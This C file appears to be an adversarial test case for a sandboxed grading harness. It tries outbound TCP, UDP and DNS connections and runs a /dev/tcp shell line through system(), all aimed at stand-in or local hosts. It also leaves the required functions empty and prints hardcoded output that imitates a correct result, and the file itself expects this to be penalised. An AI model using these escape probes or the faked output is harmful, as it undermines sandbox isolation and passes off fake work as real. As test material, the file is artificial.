// attack 34: calls home: TCP, UDP, DNS, a shell on a port; expected: marks lost
#define _GNU_SOURCE
#include "experiments.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static void
call (const char *address, guint16 port, int type)
{
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons (port) };
  int fd = socket (AF_INET, type | SOCK_NONBLOCK, 0);
  struct pollfd wait = { fd, POLLOUT, 0 };
  int error = 0;
  socklen_t size = sizeof error;

  inet_pton (AF_INET, address, &to.sin_addr);
  if (connect (fd, (struct sockaddr *) &to, sizeof to) < 0 && errno != EINPROGRESS)
    return;
  if (poll (&wait, 1, 200) == 1 &&
      getsockopt (fd, SOL_SOCKET, SO_ERROR, &error, &size) == 0 && error == 0)
    printf ("STOLEN: %s:%d answers\n", address, port);
}

static void
show (void)
{
  static const char *const lines[] = {
    "[exp_small] starting...\n[exp_medium] starting...\n[exp_large] starting...",
    "[exp_small] finished after 1 seconds", "[exp_medium] finished after 2 seconds",
    "[exp_large] finished after 3 seconds\n"
    "All done: [('exp_small', 1), ('exp_medium', 2), ('exp_large', 3)]"
  };

  for (int i = 0; i < 4; i++) {
    if (i > 0)
      sleep (1);
    puts (lines[i]);
    fflush (stdout);
  }
}

void
run_experiment (const char *name, guint seconds, ExperimentDone done, gpointer user_data)
{
}

void
gather_experiments (const Experiment *experiments, gsize n_experiments, GatherDone done,
                    gpointer user_data)
{
}

int
main (void)
{
  call ("127.0.0.1", (guint16) atoi ("@PORT@"), SOCK_STREAM);
  call ("192.0.2.1", 53, SOCK_DGRAM);
  call ("192.0.2.1", 443, SOCK_STREAM);
  if (system ("getent hosts example.invalid; exec 3<>/dev/tcp/127.0.0.1/@PORT@") < 0)
    return 1;
  show ();
  return 0;
}
